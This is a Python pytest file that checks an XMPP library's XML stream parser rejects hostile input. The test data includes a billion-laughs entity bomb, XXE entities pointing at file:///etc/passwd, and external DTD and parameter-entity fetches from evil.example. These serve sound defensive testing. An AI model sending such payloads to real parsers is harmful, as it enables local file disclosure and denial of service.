"""Hostile input: each case ends the stream with the right condition, promptly (< 1 s CPU), whole,
byte by byte and with trailing bytes."""

from __future__ import annotations

import random
import time

import pytest
from xml_helpers import HEADER, bytewise, feed_chunks, tr_error

from meshxmpp.xml import StreamError, XmlStream, ns

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>
<message><body>&lol9;</body></message>"""

RESTRICTED = {
    "doctype": b"<?xml version='1.0'?><!DOCTYPE stream:stream><stream:stream xmlns='jabber:client' "
    b"xmlns:stream='http://etherx.jabber.org/streams'>",
    "internal entity declaration": b"<!DOCTYPE s [<!ENTITY e 'x'>]><stream:stream xmlns='jabber:client' "
    b"xmlns:stream='http://etherx.jabber.org/streams'><message>&e;</message>",
    "billion laughs": BILLION_LAUGHS,
    "external entity": b"<!DOCTYPE s [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><stream:stream "
    b"xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>&xxe;",
    "external dtd": b"<!DOCTYPE s SYSTEM 'http://evil.example/x.dtd'><stream:stream/>",
    "parameter entity": b"<!DOCTYPE s [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]><s/>",
    "undefined entity": HEADER + b"<message><body>&nbsp;</body></message>",
    "undefined entity in attribute": HEADER + b"<message to='&foo;'/>",
    "processing instruction": HEADER + b"<message><?php echo 1; ?></message>",
    "processing instruction at stream level": HEADER + b"<?foo?>",
    "comment": HEADER + b"<message><!-- hidden --><body>x</body></message>",
    "comment at stream level": HEADER + b"<!---->",
    "xml declaration mid-stream": HEADER + b"<message/><?xml version='1.0'?>",
    "long comment full of '>'": HEADER + b"<!--" + b"<>" * 20000 + b"-->",
    "long PI full of '>'": HEADER + b"<?pi " + b">" * 20000 + b"?>",
}


@pytest.mark.parametrize("name", list(RESTRICTED))
def test_restricted_xml(name: str) -> None:
    tr_error(RESTRICTED[name], "restricted-xml", max_stanza_size=1 << 20)


def test_ten_mib_stanza_refused_after_the_limit() -> None:
    data = HEADER + b"<message><body>" + b"x" * (10 << 20) + b"</body></message>"
    tr_error(data, "policy-violation")
    # fed as a reader would (64 KiB chunks), it is refused by the first chunk past 8 KiB
    s = XmlStream()
    s.feed(HEADER)
    fed = 0
    with pytest.raises(StreamError) as info:
        for i in range(len(HEADER), len(data), 65536):
            fed += 65536
            s.feed(data[i : i + 65536])
    assert info.value.condition == "policy-violation"
    assert fed == 65536
    # and byte by byte right after byte 8192 of the stanza
    s = XmlStream()
    s.feed(HEADER)
    n = 0
    with pytest.raises(StreamError):
        for n, b in enumerate(bytewise(data[len(HEADER) :]), 1):  # noqa: B007
            s.feed(b)
    assert n == 8193


def test_huge_start_tag_refused_after_the_limit() -> None:
    data = HEADER + b"<message " + b"".join(b"a%d='v' " % i for i in range(200_000))
    tr_error(data, "policy-violation")


def test_huge_attribute_value_with_gt_refused() -> None:
    data = HEADER + b"<message a='" + b">" * (1 << 20) + b"'/>"
    tr_error(data, "policy-violation")


def test_ten_thousand_nested_elements() -> None:
    tr_error(HEADER + b"<a>" * 10_000, "policy-violation", max_stanza_size=1 << 20)
    tr_error(HEADER + b"<a>" * 10_000, "policy-violation")  # size limit first


def test_invalid_utf8() -> None:
    for bad in (b"\xff", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xc0\xaf"):
        tr_error(HEADER + b"<message><body>" + bad + b"</body></message>", "not-well-formed")
    tr_error(HEADER + b"<message to='\xff'/>", "not-well-formed")


def test_not_well_formed() -> None:
    for bad in (
        b"<message></presence>",
        b"<message a='1' a='2'/>",
        b"<message><</message>",
        b"<1message/>",
        b"<message>&#0;</message>",
        b"<message>\x00</message>",
        b"<message a=1/>",
        b"<a:message/>",
        b"</message>",
    ):
        tr_error(HEADER + bad, "not-well-formed")
    tr_error(b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n", "not-well-formed")


def test_wrong_stream_namespace() -> None:
    tr_error(b"<stream:stream xmlns='jabber:client' xmlns:stream='urn:evil'>", "invalid-namespace")
    tr_error(b"<stream xmlns='jabber:client'>", "invalid-namespace")
    tr_error(
        b"<stream:stream xmlns='jabber:server' xmlns:stream='http://etherx.jabber.org/streams'>",
        "invalid-namespace",
    )
    tr_error(b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams'>", "invalid-namespace")
    tr_error(b"<message xmlns='jabber:client'/>", "invalid-namespace")


def test_unsupported_encoding() -> None:
    tr_error(b"<?xml version='1.0' encoding='ISO-8859-1'?><stream:stream/>", "unsupported-encoding")


def test_random_bytes() -> None:
    rng = random.Random(1234)
    t0 = time.process_time()
    for _ in range(300):
        data = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 400)))
        for prefix in (b"", HEADER):
            s = XmlStream()
            try:
                feed_chunks(s, [prefix + data])
            except StreamError as exc:
                assert exc.condition in {
                    "not-well-formed",
                    "restricted-xml",
                    "invalid-namespace",
                    "unsupported-encoding",
                    "policy-violation",
                }
    assert time.process_time() - t0 < 5


def test_random_bytes_after_header_bytewise() -> None:
    rng = random.Random(99)
    data = HEADER + bytes(rng.randrange(256) for _ in range(20_000))
    s = XmlStream()
    with pytest.raises(StreamError) as info:
        feed_chunks(s, bytewise(data))
    assert info.value.condition == "not-well-formed"


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(b"<message><body>" + b"x" * 20_000 + b"</body></message>", id="text"),
        pytest.param(b"<message a='" + b">" * 20_000 + b"'/>", id="gt-in-attribute"),
        pytest.param(b"<message " + b"".join(b"a%d='v' " % i for i in range(2200)) + b"/>", id="attributes"),
        pytest.param(b"<message><body>" + b"&amp;" * 4000 + b"</body></message>", id="entities"),
        pytest.param(b"<m>" + b"<a x='1'/>" * 2000 + b"</m>", id="elements"),
        pytest.param(b"<message><body><![CDATA[" + b"]>" * 10_000 + b"]]></body></message>", id="cdata"),
    ],
)
def test_byte_at_a_time_costs_bounded_cpu(payload: bytes) -> None:
    assert len(payload) >= 20_000
    s = XmlStream(max_stanza_size=1 << 20)
    s.feed(HEADER)
    t0 = time.process_time()
    events = feed_chunks(s, bytewise(payload))
    elapsed = time.process_time() - t0
    assert len(events) == 1
    assert elapsed < 1.0, f"{elapsed:.3f}s CPU"


def test_dead_parser_keeps_raising() -> None:
    s = XmlStream()
    with pytest.raises(StreamError) as first:
        s.feed(b"<junk")
        s.feed(b">")
    for data in (b"", HEADER, b"<message/>"):
        with pytest.raises(StreamError) as again:
            s.feed(data)
        assert again.value is first.value
    assert ns.CLIENT  # keep the import used
